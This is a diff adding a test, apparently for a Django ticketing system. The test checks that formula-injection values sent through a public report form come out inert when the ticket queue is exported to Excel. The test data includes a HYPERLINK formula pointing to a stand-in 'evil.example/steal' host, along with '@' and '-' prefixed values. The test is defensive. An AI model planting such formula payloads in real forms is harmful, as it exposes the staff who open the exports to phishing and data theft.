@@ -586,3 +586,31 @@ def test_bulk_actions_report_each_refusal(client_as, org, new_ticket):
     client_as(org.inspector).post("/tickets/bulk/", {"bulk_action": "urge", "ids": [outsider.pk]})
     outsider.refresh_from_db()
     assert outsider.urge_count == 0  # outside the inspector's scope: untouched
+
+
+def test_a_formula_sent_through_the_public_form_is_inert_in_the_queue_export(
+    client, client_as, org, catalog
+):
+    """The public form needs no login: whatever it accepts reaches staff's Excel files."""
+    attack = '=HYPERLINK("http://evil.example/steal","查看详情")'
+    with time_machine.travel(timezone.now() - timedelta(seconds=30)):
+        started = client.get("/public/report/").context["form"]["started"].value()
+    client.post(
+        "/public/report/",
+        {
+            "category": catalog.consult.pk,
+            "title": attack,
+            "description": "@SUM(1+1)",
+            "contact_name": "-王女士",
+            "contact_phone": "13700001111",
+            "started": started,
+        },
+    )
+    ticket = Ticket.objects.get()
+    response = client_as(org.gm).get("/tickets/?queue=all&export=xlsx")
+    sheet = load_workbook(BytesIO(response.content)).active
+    cells = {cell.value: cell for row in sheet.iter_rows(min_row=2) for cell in row}
+    assert ticket.number in cells
+    assert cells[attack].data_type == "s" and cells[attack].quotePrefix
+    formulas = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    assert formulas == []
